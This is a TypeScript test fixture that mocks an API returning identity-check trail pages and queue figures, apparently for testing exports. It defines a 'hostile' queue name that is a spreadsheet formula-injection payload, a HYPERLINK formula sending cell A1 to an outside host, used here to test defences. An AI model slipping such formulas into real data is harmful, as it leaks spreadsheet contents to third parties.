import type { z } from 'zod';
import { newId } from '#shared/domain/ids.ts';
import { noAgreement, targetsOf } from '#shared/domain/quality/agreement.ts';
import { figuresOf } from '#shared/domain/quality/figures.ts';

/** A name that a spreadsheet would compute. */
export const hostile = '=HYPERLINK("http://example.org/?"&A1,"Klik")';

/** Customers of the trail: one whom the device has, and one whom it has not. */
export const [checkedId, strangerId] = [newId(), newId()];

/** Two pages of the trail, a line each. */
function trail(path: string): unknown {
  const line = (customerId: string, change: object) => ({ id: newId(), version: 1, updatedAt: '2026-03-02T10:00:00.000Z', interactionId: strangerId, customerId, queueId: null, agentId: null, at: '2026-03-02T10:00:00.000Z', kind: 'wrong', check: 'postcode', way: null, carried: null, opened: [], ...change });
  return path.includes('cursor=') ? { items: [line(strangerId, { kind: 'gave-up', check: null, way: 'supervisor' })], next: null } : { items: [line(checkedId, {})], next: 'abc' };
}

/** Central, for a team lead; what it was asked, in order. */
export const central = {
  asked: [] as string[],
  async ask<T extends z.ZodType>({ path }: { readonly path: string }, answer: T): Promise<z.output<T>> {
    this.asked.push(path);
    if (path.startsWith('/v1/identity-checks?')) return answer.parse(trail(path));
    const figures = figuresOf([], null);
    const one = { value: 12.34, count: 2, within: 0.5 };
    const targets = targetsOf({ pickUpTargetSeconds: 20, durationTargetSeconds: 300, agreement: { ...noAgreement, pickUpPercent: 80 } });
    const counted = { ...figures, conversations: 2, pickUp: one, silence: { value: 0.1234, count: 2, within: null } };
    return answer.parse({ teams: [], queues: [{ queueId: newId(), name: hostile, targets, figures: counted, periods: [{ day: '2026-03-02', figures: counted }] }, { queueId: newId(), name: 'Stil', targets, figures, periods: [] }] });
  },
};
